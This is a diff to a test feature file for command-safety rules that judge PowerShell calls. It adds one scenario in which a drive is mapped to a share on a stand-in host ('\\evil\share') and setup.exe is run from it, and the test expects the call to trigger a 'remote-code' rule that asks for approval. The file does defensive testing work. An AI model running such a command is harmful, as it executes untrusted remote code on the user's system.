@@ -788,3 +788,9 @@ Feature: Command rules read what a SYSTEM call would do and refuse or ask for th
     Then the call hits rule "upload-file" with action "ask"
     When PowerShell is asked to run "az storage account list"
     Then the call hits no rule
+
+  @S-RULE-93
+  Scenario: A program started on a drive mapped to a share runs from the share
+    Given the built-in command rules
+    When PowerShell is asked to run "net use Z: \\evil\share; Set-Location Z:\; .\setup.exe"
+    Then the call hits rule "remote-code" with action "ask"
